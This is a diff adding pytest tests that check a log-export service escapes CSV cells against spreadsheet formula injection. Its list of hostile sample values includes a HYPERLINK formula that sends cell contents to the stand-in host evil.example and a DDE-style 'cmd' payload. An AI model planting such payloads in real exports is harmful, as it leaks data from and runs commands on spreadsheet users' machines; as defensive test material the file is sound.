@@ -5,12 +5,13 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from collections.abc import AsyncIterator
 
 import orjson
 import pytest
 
-from services.log.export import CHUNK_BYTES, CSV_COLUMNS, FORMATS, render
+from services.log.export import CHUNK_BYTES, CSV_COLUMNS, FORMATS, csv_cell, render
 
 OBJECT_COLUMNS = {"before", "after", "metadata", "attributes"}
 
@@ -137,3 +138,86 @@ async def test_render_is_lazy():
     assert len(first) >= CHUNK_BYTES
     assert pulled < 400
     await stream.aclose()
+
+
+# --- spreadsheet safety (OWASP CSV injection) ---------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "'already quoted",
+    "\x1b[31mred\x1b[0m",
+    "nul\x00byte and bell\x07 and del\x7f and c1\x85\x9b",
+    "=formula with C:\\path\\ and \\u0041 literal",
+]
+_UNESCAPE = re.compile(r"\\(\\|u[0-9a-f]{4})")
+
+
+def read_cell(cell: str) -> str:
+    """The README's rule for reading a CSV cell back, written independently of the code."""
+    if not cell.startswith("'"):
+        return cell
+    return _UNESCAPE.sub(
+        lambda m: "\\" if m.group(1) == "\\" else chr(int(m.group(1)[1:], 16)), cell[1:]
+    )
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_csv_cell_is_inert_and_reversible(value: str) -> None:
+    cell = csv_cell(value)
+    assert cell[0] not in "=+-@\t\r", cell
+    assert cell.startswith("'")
+    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", cell), cell
+    assert read_cell(cell) == value
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "payment failed",
+        "C:\\temp\\x",
+        "\\u0041 is not decoded",
+        "50% done",
+        "line one\nline two",
+        "tab\tinside",
+        "",
+    ],
+)
+def test_ordinary_cells_are_unchanged(value: str) -> None:
+    assert csv_cell(value) == value
+    assert read_cell(csv_cell(value)) == value
+
+
+async def test_csv_export_neutralises_every_column() -> None:
+    """Hostile text in any column, attribute keys and values included, leaves inert."""
+    events = [
+        {
+            "id": f"=id{i}",
+            "timestamp": "2026-01-31T12:00:00.000Z",
+            "tenant_id": "acme",
+            "level": "ERROR",
+            "message": value,
+            "service": "@svc",
+            "user_agent": "-ua\x1b",
+            "attributes": {"=k": value},
+        }
+        for i, value in enumerate(HOSTILE)
+    ]
+    data = b"".join(await chunks_of(events, "csv")).decode()
+    header, *rows = list(csv.reader(io.StringIO(data, newline="")))
+    assert header == CSV_COLUMNS
+    assert len(rows) == len(events)
+    for row, event in zip(rows, events, strict=True):
+        for col, cell in zip(header, row, strict=True):
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (col, cell)
+            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", cell), (col, cell)
+            if cell == "":
+                assert col not in event
+                continue
+            value = read_cell(cell)
+            expected = event[col]
+            assert (json.loads(value) if col in OBJECT_COLUMNS else value) == expected, col
